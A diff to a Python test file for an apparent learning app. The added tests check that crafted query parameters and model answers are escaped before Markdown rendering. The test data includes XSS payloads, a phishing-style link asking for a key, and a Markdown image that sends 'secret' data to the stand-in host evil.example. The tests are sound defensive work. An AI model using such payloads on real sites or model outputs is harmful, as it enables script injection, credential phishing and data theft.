@@ -240,7 +240,7 @@ def test_sdk_clients_are_only_built_by_make_client(path: Path) -> None:
 
 # ------------------------------------------------------------------------------------------ custom servers
 def test_without_owner_settings_and_proof_of_a_local_run_custom_servers_are_off() -> None:
-    """AppTest has no browser connection (no headers, no address): like a hand-made client, it is not local."""
+    """AppTest has no browser connection (no headers, no address): like a hand-made client, not local."""
     from core.i18n import translator
     from tests.apptest import open_page
 
@@ -249,3 +249,130 @@ def test_without_owner_settings_and_proof_of_a_local_run_custom_servers_are_off(
     assert not at.exception
     assert at.text_input(key="pg_server_url").disabled
     assert any(i.value == translator("en")("playground.server_off_hosted") for i in at.info)
+
+
+# ------------------------------------------------------------------------------------------ markdown / HTML
+PAYLOADS = [
+    "<img src=x onerror=alert(1)>",
+    "<script>alert(1)</script>",
+    "![x](http://evil.example/t.png?d=secret)",
+    "[Your session expired, enter your key](http://evil.example)",
+    "<http://evil.example>",
+    "http://evil.example/a.png",
+    ":red[**shout**] :material/warning: $$x^2$$",
+    "line\n# heading\n---\n```\ncode",
+    "\\![x](http://evil.example/t.png)",
+    "1. $5 - 3",
+]
+
+
+def _markup_free(rendered: str) -> bool:
+    """Every ASCII punctuation character is backslash-escaped (then CommonMark treats it as plain text) —
+    except in a formatted number, where only digits, separators and signs occur (and ``$`` is escaped)."""
+    import re
+    import string
+
+    if re.fullmatch(r"(?=.*[0-9])[0-9.,%+\-\u2212 \u00a0\u202f€]*", rendered.replace("\\$", "")):
+        return True
+    i = 0
+    while i < len(rendered):
+        ch = rendered[i]
+        if ch == "\\":
+            if i + 1 >= len(rendered) or rendered[i + 1] not in string.punctuation:
+                return False
+            i += 2
+            continue
+        if ch in string.punctuation or ch in "\n\r":
+            return False
+        i += 1
+    return True
+
+
+@pytest.mark.parametrize("text", PAYLOADS)
+def test_literal_leaves_no_markup(text: str) -> None:
+    from core import mdtext
+
+    shown = mdtext.literal(text)
+    assert _markup_free(shown)
+    # undoing the escapes gives the text back (line breaks become spaces)
+    assert shown.replace("\\", "\x00").replace("\x00\x00", "\\").replace("\x00", "") == " ".join(
+        text.splitlines()
+    )
+
+
+def test_literal_leaves_no_markup_for_any_text() -> None:
+    from hypothesis import given
+    from hypothesis import strategies as st
+
+    from core import mdtext
+
+    @given(st.text(max_size=200))
+    def check(text: str) -> None:
+        assert _markup_free(mdtext.literal(text))
+
+    check()
+
+
+@pytest.mark.parametrize(
+    ("text", "shown"),
+    [
+        ("<script>alert(1)</script>", "&lt;script&gt;alert(1)&lt;/script&gt;"),
+        ("<img src=x onerror=alert(1)>", "&lt;img src=x onerror=alert(1)&gt;"),
+        ("![x](http://evil.example/t.png)", "!\\[x](http://evil.example/t.png)"),
+        (
+            "![x][ref]\n\n[ref]: http://evil.example/t.png",
+            "!\\[x][ref]  \n  \n[ref]: http://evil.example/t.png",
+        ),
+        ("\\![x](http://e.example/a.png)", "\\\\!\\[x](http://e.example/a.png)"),
+        ("costs $5", "costs \\$5"),
+        ("C:\\path", "C:\\\\path"),
+        ("[a link](https://example.org) and **bold**", "[a link](https://example.org) and **bold**"),
+    ],
+)
+def test_model_output_keeps_formatting_but_no_html_or_images(text: str, shown: str) -> None:
+    from core import mdtext
+
+    assert mdtext.model_output(text) == shown
+
+
+@pytest.mark.parametrize(
+    ("page", "param", "message"),
+    [
+        ("pages/lessons.py", "lesson", "lessons.unknown"),
+        ("pages/tokens.py", "sample", "tokens.unknown_sample"),
+        ("pages/playground.py", "pair", "playground.unknown_pair"),
+    ],
+)
+@pytest.mark.parametrize("payload", PAYLOADS[:4])
+def test_a_crafted_link_cannot_put_markup_on_a_page(
+    page: str, param: str, message: str, payload: str
+) -> None:
+    """A link someone sends a learner (``?lesson=![x](http://...)``) is echoed literally, never rendered."""
+    from core import mdtext
+    from core.i18n import translator
+    from tests.apptest import open_page
+
+    at = open_page(page, "en", **{param: payload})
+    assert not at.exception
+    warnings = [w.value for w in at.warning]
+    expected = translator("en")(message, **{param: mdtext.literal(payload)})
+    assert expected in warnings, warnings
+    assert not any(payload in w for w in warnings)
+
+
+def test_model_output_with_an_image_is_shown_but_never_loaded(fake: fake_openai.FakeServer) -> None:
+    from tests.apptest import open_page
+
+    at = open_page("pages/playground.py", "en")
+    at.secrets["playground"] = {"allow_custom_servers": True}
+    at.radio(key="pg_a_kind").set_value("server").run()
+    at.text_input(key="pg_server_url").input(fake.url)
+    at.text_input(key="pg_a_server_model").input("image")
+    at.text_area(key="pg_user").input("describe")
+    at.button(key="pg_run").click().run()
+    assert not at.exception
+    answers = [m.value for m in at.markdown if "evil.example" in m.value]
+    assert answers, "the answer is shown"
+    for answer in answers:
+        assert "![" not in answer and "!\\[chart]" in answer  # the image syntax is broken, the text stays
+        assert "<img" not in answer and "&lt;img" in answer
